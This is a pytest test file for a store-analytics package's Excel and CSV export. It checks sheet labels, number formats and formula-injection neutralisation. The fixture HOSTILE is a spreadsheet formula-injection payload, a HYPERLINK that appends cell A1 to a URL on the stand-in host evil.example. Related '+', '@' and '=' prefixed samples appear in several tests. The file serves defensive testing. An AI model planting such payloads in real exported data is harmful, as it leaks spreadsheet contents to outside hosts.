"""The .xlsx workbook of a run record and text that stays text in spreadsheets.

The workbook is read back with openpyxl and checked against the hand-written tables it
was made from: sheets, header labels, values, number formats, and hostile text
(``=HYPERLINK(...)``) that must stay a string, never a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from ecanalysis.context import open_report
from ecanalysis.labels import label, value_label
from ecanalysis.workbook import (
    MAX_SHEET_TITLE,
    neutralise_formulas,
    neutralise_text,
    sheet_title,
    write_workbook,
)

HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"click")'

RECORD = {
    "notebook": "store_inspection",
    "store_id": "shop01",
    "period": {
        "label": "2025-11-30",
        "start": "2025-11-30T00:00:00+08:00",
        "end": "2025-12-01T00:00:00+08:00",
        "complete": True,
    },
    "kpis": {"orders": 12, "paid_amount": 3456.5, "gross_margin": 0.25},
    "comparisons": {
        "orders": {"previous": 10, "change": 2, "change_pct": 0.2},
        "orders_yoy": {"previous": 8, "change": 4, "change_pct": 0.5},
    },
    "alerts": [
        {"level": "critical", "message": "3 listed products are out of stock"},
        {"level": "warning", "message": HOSTILE},
    ],
    "coverage": {"first": "2023-12-01", "last": "2025-11-30"},
    "finished_at": "2025-12-01T01:00:00+00:00",
}
STORE = {"store_id": "shop01", "name": "悦享家居", "currency": "CNY"}


def read_table(path, *names, lang="zh"):
    """A record's ``tables/*.csv`` with the labelled headers of ``names`` (the report shows
    labels in its language) renamed back to the machine names."""
    import pandas as pd

    from ecanalysis.labels import label

    frame = pd.read_csv(path, encoding="utf-8-sig")
    return frame.rename(columns={label(n, lang): n for n in names})


def stock_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "sku": ["a-1", "b-2", "c-3"],
            "title": [HOSTILE, "+1 mug", "Tea cup"],
            "listed_at": pd.to_datetime(["2025-01-05", "2025-02-01", "2025-03-09"]),
            "stock_on_hand": [0.0, 5.0, np.nan],
            "units_sold": np.array([3, 0, 7], dtype="int64"),
            "paid_amount": [1234567.891, -12.5, 0.0],
            "gross_margin": [0.25, np.nan, -0.1],
        }
    )


def assessment_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "kpi": ["paid_amount", "orders", "gross_margin"],
            "actual": [1000.5, 20.0, 0.3],
            "target": [2000.0, 25.0, 0.35],
            "attainment": [0.50025, 0.8, 0.857],
            "status": ["missed", "at_risk", "met"],
        }
    )


@pytest.fixture
def book(tmp_path):
    path = write_workbook(
        tmp_path / "store_inspection.xlsx",
        {"stock_cover": stock_table(), "assessment": assessment_table()},
        record=RECORD,
        store=STORE,
        lang="zh",
    )
    return load_workbook(path)


def test_sheets_in_order_with_titles_in_the_report_language(book, tmp_path):
    assert book.sheetnames == ["概览", "库存可售天数", "月度考核表"]
    english = write_workbook(
        tmp_path / "en.xlsx", {"stock_cover": stock_table()}, record=RECORD, lang="en"
    )
    assert load_workbook(english).sheetnames == ["Summary", "Stock cover"]


def test_header_row_is_labelled_bold_and_frozen(book):
    sheet = book["库存可售天数"]
    heads = [cell.value for cell in sheet[1]]
    assert heads == ["SKU", "商品名称", "上架时间", "库存", "近期销量", "支付金额", "毛利率"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G4"
    assert sheet.column_dimensions["A"].width >= 8
    assert sheet.column_dimensions["B"].width <= 60


def test_values_match_the_table(book):
    sheet = book["库存可售天数"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert rows[0] == [
        "a-1",
        HOSTILE,
        dt.datetime(2025, 1, 5),
        0,
        3,
        1234567.891,
        0.25,
    ]
    assert rows[1][1] == "+1 mug" and rows[1][5] == -12.5
    assert rows[1][6] is None, "NaN is an empty cell, not 'nan'"
    assert rows[2][3] is None
    assert sheet.max_row == 4


def test_number_formats_by_kind(book):
    sheet = book["库存可售天数"]
    row = sheet[2]
    assert row[2].number_format == "yyyy-mm-dd"  # dates at midnight: dates
    assert row[3].number_format == "#,##0"  # stock on hand: a count
    assert row[4].number_format == "#,##0"
    assert row[5].number_format == "#,##0.00"  # money: thousands and 2 decimals
    assert row[6].number_format == "0.0%"  # a rate: percent
    assert row[2].is_date


def test_timestamps_with_a_time_keep_it(tmp_path):
    frame = pd.DataFrame(
        {"created_at": pd.to_datetime(["2025-11-09 13:23:04"]).tz_localize("Asia/Shanghai")}
    )
    path = write_workbook(tmp_path / "t.xlsx", {"bad_reviews": frame}, record=RECORD)
    cell = load_workbook(path)["差评明细"]["A2"]
    assert cell.value == dt.datetime(2025, 11, 9, 13, 23, 4), "local wall time, zone dropped"
    assert cell.number_format == "yyyy-mm-dd hh:mm"


def test_long_tables_format_each_row_by_its_kpi(book):
    sheet = book["月度考核表"]
    assert [cell.value for cell in sheet[1]] == ["指标", "实际值", "目标", "达成率", "状态"]
    assert [sheet.cell(row=r, column=1).value for r in (2, 3, 4)] == [
        "支付金额",
        "支付订单数",
        "毛利率",
    ]
    formats = [sheet.cell(row=r, column=2).number_format for r in (2, 3, 4)]
    assert formats == ["#,##0.00", "#,##0", "0.0%"]
    assert sheet.cell(row=2, column=2).value == 1000.5
    assert sheet.cell(row=2, column=4).number_format == "0.0%"


def test_hostile_text_stays_text(book):
    cell = book["库存可售天数"]["B2"]
    assert cell.value == HOSTILE
    assert cell.data_type == "s", "a string, not a formula"
    assert cell.quotePrefix, "Excel shows and edits it as text"
    plus = book["库存可售天数"]["B3"]
    assert plus.data_type == "s" and plus.quotePrefix
    alert = next(cell for row in book["概览"].iter_rows() for cell in row if cell.value == HOSTILE)
    assert alert.data_type == "s"


def test_no_formula_anywhere(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title


def test_data_named_columns_and_control_characters(tmp_path):
    frame = pd.DataFrame({HOSTILE: ["bell\x07 and tab\tok"], "n": [1]})
    path = write_workbook(tmp_path / "c.xlsx", {"by_channel": frame}, record=RECORD)
    sheet = load_workbook(path)["by_channel"]
    assert sheet["A1"].value == HOSTILE and sheet["A1"].data_type == "s"
    assert sheet["A2"].value == "bell\ufffd and tab\tok"


def test_summary_sheet(book):
    sheet = book["概览"]
    facts = {
        sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=2).value for r in range(1, 11)
    }
    assert facts["店铺"] == "悦享家居 (shop01)"
    assert facts["周期"] == "2025-11-30"
    assert facts["首日"] == dt.datetime(2025, 11, 30) and facts["末日"] == dt.datetime(2025, 11, 30)
    assert facts["币种"] == "CNY"
    assert facts["数据首日"] == dt.datetime(2023, 12, 1)
    assert facts["数据覆盖完整"] == "是"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=12)]
    assert rows[0] == ["指标", "代码", "本期", "上期", "环比", "去年同期", "同比"]
    assert rows[1] == ["支付订单数", "orders", 12, 10, 0.2, 8, 0.5]
    assert rows[2][:3] == ["支付金额", "paid_amount", 3456.5]
    assert sheet.cell(row=14, column=3).number_format == "#,##0.00"
    assert sheet.cell(row=15, column=3).number_format == "0.0%"
    assert sheet.cell(row=13, column=5).number_format == "0.0%"
    levels = [r[:2] for r in rows if r[0] in ("严重", "警告")]
    assert levels == [["严重", "3 listed products are out of stock"], ["警告", HOSTILE]]


def test_sheet_titles_are_excel_safe():
    long = "a_very_long_table_name_that_goes_on_and_on"
    assert sheet_title(long) == long[:MAX_SHEET_TITLE]
    assert len(sheet_title(long, used={long[:MAX_SHEET_TITLE].lower()})) <= MAX_SHEET_TITLE
    assert sheet_title(long, used={long[:MAX_SHEET_TITLE].lower()}).endswith(" (2)")
    assert sheet_title("history") == "history_"
    assert sheet_title("'a") == "a"


def test_the_workbook_replaces_an_old_one_and_leaves_no_temp_file(tmp_path):
    path = tmp_path / "x.xlsx"
    path.write_bytes(b"old")
    write_workbook(path, {"no_sales": stock_table()}, record=RECORD)
    assert load_workbook(path).sheetnames == ["概览", "滞销商品"]
    assert [p.name for p in tmp_path.iterdir()] == ["x.xlsx"]


# -- CSV ------------------------------------------------------------------------------


def test_neutralise_text():
    assert neutralise_text(HOSTILE) == "'" + HOSTILE
    for text in ("+1", "-1", "@SUM(A1)", "\t=1", " =1", "\n@x", "\uff1d1", "\r\n+1"):
        assert neutralise_text(text) == "'" + text
    assert neutralise_text("Tea = good") == "Tea = good"
    assert neutralise_text(-5) == -5
    assert neutralise_text(None) is None


def test_neutralise_formulas_touches_only_text():
    frame = stock_table().assign(
        reason=pd.Series(["@x", None, "ok"], dtype="string"),
        kind=pd.Categorical(["=a", "b", "=a"]),
    )
    safe = neutralise_formulas(frame)
    assert safe["title"].tolist() == ["'" + HOSTILE, "'+1 mug", "Tea cup"]
    assert safe["reason"].tolist()[0] == "'@x" and pd.isna(safe["reason"].iloc[1])
    assert safe["kind"].tolist() == ["'=a", "b", "'=a"]
    pd.testing.assert_series_equal(safe["paid_amount"], frame["paid_amount"])
    pd.testing.assert_series_equal(safe["listed_at"], frame["listed_at"])
    assert frame["title"].iloc[0] == HOSTILE, "the input is not mutated"
    renamed = neutralise_formulas(pd.DataFrame({"=x": [1]}))
    assert list(renamed.columns) == ["'=x"]
    twice = neutralise_formulas(pd.DataFrame([["=a", "=b", 1]], columns=["t", "t", "n"]))
    assert twice.iloc[0].tolist() == ["'=a", "'=b", 1]


# -- the report writes them -------------------------------------------------------------


def test_report_writes_csv_and_workbook(sample_dir, tmp_path):
    out = tmp_path / "record"
    _, rec = open_report(
        "monthly_assessment", store_id="shop01", period="2025-10", data=sample_dir, output_dir=out
    )
    rec.kpi("orders", 7)
    rec.alert("warning", "orders fell")
    rec.save_table("assessment", assessment_table().assign(status=[HOSTILE, "met", "met"]))
    rec.save_table("monthly", stock_table())
    record = rec.finish()

    with open(out / "tables" / "assessment.csv", encoding="utf-8-sig", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    assert "'" + HOSTILE in fields
    assert not [f for f in fields if f.startswith(("=", "+", "@"))]
    reread = pd.read_csv(out / "tables" / "monthly.csv", encoding="utf-8-sig")
    assert reread[label("paid_amount")].tolist() == [1234567.89, -12.5, 0.0], "money as shown"

    book = load_workbook(out / "monthly_assessment.xlsx")
    assert book.sheetnames == ["概览", "月度考核表", "月度趋势"]
    status = book["月度考核表"]["E2"]
    assert status.value == HOSTILE and status.data_type == "s"
    assert book["概览"]["B3"].value == record["period"]["label"] == "2025-10"


def test_other_reports_write_no_workbook(sample_dir, tmp_path):
    out = tmp_path / "record"
    _, rec = open_report(
        "daily_report", store_id="shop01", period="2025-10-01", data=sample_dir, output_dir=out
    )
    rec.kpi("orders", 7)
    rec.save_table("by_channel", stock_table())
    rec.finish()
    assert not list(out.glob("*.xlsx"))
    assert (out / "tables" / "by_channel.csv").is_file()
    assert rec.tables == {}


def test_quarantined_rows_are_neutralised(sample_dir, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(sample_dir, data)
    reviews = pd.read_parquet(data / "reviews.parquet")
    index = reviews.index[reviews["store_id"] == "shop01"][-1]
    reviews.loc[index, "rating"] = 9  # breaks the 1–5 rule: a row-level problem
    reviews.loc[index, "text"] = HOSTILE
    reviews.to_parquet(data / "reviews.parquet", index=False)
    out = tmp_path / "record"
    ctx, rec = open_report(
        "store_inspection",
        store_id="shop01",
        period="latest-day",
        data=data,
        output_dir=out,
        on_bad_rows="quarantine",
    )
    ctx.load("reviews")
    assert rec.quarantined == {"reviews": 1}
    set_aside = pd.read_csv(out / "quarantine" / "reviews.csv", encoding="utf-8-sig")
    assert set_aside["text"].tolist() == ["'" + HOSTILE]


# -- end to end: the store_inspection notebook through the command line -------------------


@pytest.mark.slow
@pytest.mark.xdist_group("e2e")
def test_store_inspection_record_holds_a_workbook_of_its_tables(sample_dir, tmp_path):
    from ecanalysis.cli import main

    data = tmp_path / "data"
    shutil.copytree(sample_dir, data)
    products = pd.read_parquet(data / "products.parquet")
    mine = products["store_id"] == "shop01"
    products.loc[mine, "title"] = [f"{HOSTILE} #{i}" for i in range(mine.sum())]
    products.to_parquet(data / "products.parquet", index=False)
    reviews = pd.read_parquet(data / "reviews.parquet")
    reviews.loc[reviews["store_id"] == "shop01", "text"] = "-" + HOSTILE
    reviews.to_parquet(data / "reviews.parquet", index=False)
    out = tmp_path / "runs"
    argv = ["run", "store_inspection", "--store-id", "shop01", "--period", "latest-day"]
    code = main([*argv, "--data", str(data), "--out", str(out), "--engine", "inprocess"])
    assert code == 0
    folder = next(out.glob("store_inspection/shop01/*"))
    tables = sorted(p.stem for p in (folder / "tables").glob("*.csv"))
    assert tables == [
        "bad_review_reasons",
        "bad_reviews",
        "no_sales",
        "price_cost_anomalies",
        "reorder_plan",
        "stock_cover",
    ]

    book = load_workbook(folder / "store_inspection.xlsx")
    assert book.sheetnames == [
        "概览",
        "库存可售天数",
        "补货计划",
        "滞销商品",
        "差评明细",
        "差评原因",
        "价格成本异常",
    ]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title

    stock = read_table(folder / "tables" / "stock_cover.csv", "sku", "title")
    sheet = book["库存可售天数"]
    assert [c.value for c in sheet[1]][:3] == ["SKU", "商品名称", "类目"]
    assert [c.value for c in sheet["A"][1:]] == stock["sku"].tolist()
    assert stock["title"].str.startswith("'=HYPERLINK").all(), "CSV text neutralised"
    assert [c.value for c in sheet["B"][1:]] == stock["title"].str[1:].tolist()
    assert all(c.data_type == "s" and c.quotePrefix for c in sheet["B"][1:])

    bad = read_table(folder / "tables" / "bad_reviews.csv", "text")
    assert len(bad) and (bad["text"] == "'-" + HOSTILE).all()
    texts = book["差评明细"]["G"][1:]
    assert [c.value for c in texts] == ["-" + HOSTILE] * len(bad)

    record = json.loads((folder / "metrics.json").read_text(encoding="utf-8"))
    summary = book["概览"]
    assert summary["B3"].value == record["period"]["label"] == folder.name
    kpis = {row[1].value: row[2].value for row in summary.iter_rows(min_row=13) if row[1].value}
    assert kpis["stock_out_skus"] == record["kpis"]["stock_out_skus"]
    assert kpis["paid_amount"] == pytest.approx(record["kpis"]["paid_amount"])


def test_coded_values_are_labelled_as_in_the_html(book):
    """The status column said not_set / at_risk where the HTML says 未设目标 / 有风险."""
    sheet = book["月度考核表"]
    header = [cell.value for cell in sheet[1]]
    column = header.index(label("status", "zh")) + 1
    shown = [sheet.cell(row=row, column=column).value for row in range(2, 5)]
    assert shown == [value_label("status", s, "zh") for s in ("missed", "at_risk", "met")]
    assert shown == ["未达成", "有风险", "已达成"]


def test_a_rate_changes_by_points_in_the_workbook_as_in_the_html(tmp_path):
    """The workbook said a margin changed by −16.8 % where the HTML said ▼ 5.9 pp: a rate's
    change is in percentage points in both."""
    record = {
        **RECORD,
        "comparisons": {
            **RECORD["comparisons"],
            "gross_margin": {"previous": 0.351, "change": -0.059, "change_pct": -0.168},
        },
    }
    book = load_workbook(write_workbook(tmp_path / "t.xlsx", {}, record=record, store=STORE))
    sheet = book.worksheets[0]
    rows = {
        row[1].value: row for row in sheet.iter_rows() if row[1].value in ("orders", "gross_margin")
    }
    margin_change = rows["gross_margin"][4]
    assert margin_change.value == pytest.approx(-5.9)
    assert margin_change.number_format.startswith('+0.0" pp"')
    assert (
        rows["orders"][4].value == pytest.approx(0.2) and rows["orders"][4].number_format == "0.0%"
    )
